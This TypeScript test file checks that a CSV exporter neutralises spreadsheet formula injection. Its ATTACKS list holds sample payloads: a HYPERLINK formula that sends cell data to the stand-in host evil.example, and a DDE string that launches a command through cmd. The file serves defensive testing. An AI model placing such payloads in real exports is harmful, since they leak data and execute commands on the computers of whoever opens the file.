import { openCsvAsSpreadsheet } from '@dxhub/testing';
import { csvDocument, csvField } from './spreadsheet-safe-csv';

const ATTACKS = [
  '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1,2)',
  '\t=1+1',
  '\r=1+1',
  '=1,2\n"x"',
];

describe('spreadsheet-safe CSV', () => {
  it('neutralises every field that would start a formula, as OWASP recommends', () => {
    expect(csvField('=1+1')).toBe(`"'=1+1"`);
    expect(csvField('@SUM(1)')).toBe(`"'@SUM(1)"`);
    expect(csvField('-2')).toBe(`"'-2"`);
    expect(csvField('=a"b')).toBe(`"'=a""b"`);
  });

  it('leaves numbers, plain text and Vietnamese as they are, and quotes separators', () => {
    expect([csvField(-5), csvField(0.25), csvField(null), csvField(undefined), csvField(Number.NaN)]).toEqual([
      '-5',
      '0.25',
      '',
      '',
      '',
    ]);
    expect(csvField('Sở Thông tin và Truyền thông')).toBe('Sở Thông tin và Truyền thông');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
  });

  it('a spreadsheet opening the document finds no formula, and every attack as text', async () => {
    const csv = csvDocument(
      ['name', 'value'],
      ATTACKS.map((a, i) => [a, -i]),
      { byteOrderMark: true },
    );
    const cells = await openCsvAsSpreadsheet(csv);
    expect(cells.filter((c) => c.isFormula)).toEqual([]);
    const names = cells.filter((c) => c.column === 1 && c.row > 1).map((c) => c.text);
    expect(names).toEqual(ATTACKS.map((a) => `'${a}`));
    expect(cells.filter((c) => c.column === 2 && c.row > 2).map((c) => c.text)).toEqual(
      ATTACKS.slice(1).map((_, i) => String(-(i + 1))),
    );
  });

  it('the reader used above does see formulas in a CSV written without neutralising (it can fail)', async () => {
    // What the exports wrote before: RFC 4180 quoting only.
    const quoted = (v: string) => (/[",\r\n]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v);
    const naive = ['name', ...ATTACKS.slice(0, 4)].map(quoted).join('\r\n');
    expect((await openCsvAsSpreadsheet(naive)).filter((c) => c.isFormula)).toHaveLength(4);
  });
});
